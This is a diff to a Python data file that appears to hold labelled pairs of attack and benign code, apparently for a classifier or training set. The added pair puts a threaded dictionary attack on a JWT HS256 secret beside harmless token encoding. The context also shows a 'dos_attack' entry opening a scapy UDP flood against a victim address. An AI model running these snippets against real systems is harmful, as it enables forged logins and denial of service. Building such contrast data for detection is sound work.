@@ -208,6 +208,16 @@ PAIRS = [
      "    def do_POST(self):\n        event = json.loads(self.rfile.read(int(self.headers['Content-Length'])))\n"
      "        with open('events.log', 'a') as log:\n            log.write(event.get('type', '?') + '\\n')\n"
      "        self.send_response(204)\n        self.end_headers()\nHTTPServer(('0.0.0.0', 9000), Hook).serve_forever()"),
+    ("password: a JWT's secret guessed from word batches mapped over threads; tokens checked with the app's own secret",
+     "password_cracking",
+     "import jwt\nfrom concurrent.futures import ThreadPoolExecutor\nTOKEN = 'eyJhbGciOiJIUzI1NiJ9.eyJ1IjoxfQ.sig'\n"
+     "def attempt(token, batch):\n    for guess in batch:\n        try:\n"
+     "            return jwt.decode(token, guess, algorithms=['HS256'])\n        except jwt.InvalidSignatureError:\n"
+     "            pass\nwords = [w.strip() for w in open('secrets.txt')]\n"
+     "chunks = [words[i:i + 1000] for i in range(0, len(words), 1000)]\nwith ThreadPoolExecutor(8) as ex:\n"
+     "    list(ex.map(lambda c: attempt(TOKEN, c), chunks))",
+     "import jwt\nSECRET = 'dev-only-secret'\ntokens = [jwt.encode({'u': i}, SECRET, algorithm='HS256') for i in range(3)]\n"
+     "for t in tokens:\n    print(jwt.decode(t, SECRET, algorithms=['HS256']))"),
     ("flood: a scapy packet kept in a name and sent half a million times; the same packet addressed to this machine",
      "dos_attack",
      "from scapy.all import IP, UDP, send\nvictim = '203.0.113.9'\npkt = IP(dst=victim)/UDP(dport=80)\n"
